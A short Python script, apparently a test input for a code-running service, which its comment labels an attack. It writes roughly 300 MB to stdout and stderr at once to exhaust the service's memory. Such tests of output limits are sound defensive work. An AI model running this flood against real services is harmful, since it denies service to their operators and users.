# Attack: hundreds of megabytes on stdout AND stderr at once, to exhaust the
# service's memory through both streams.
import os, threading
block = b"q" * (1 << 20)
def spam(fd):
    for _ in range(300):
        os.write(fd, block)
t = threading.Thread(target=spam, args=(2,))
t.start()
spam(1)
t.join()
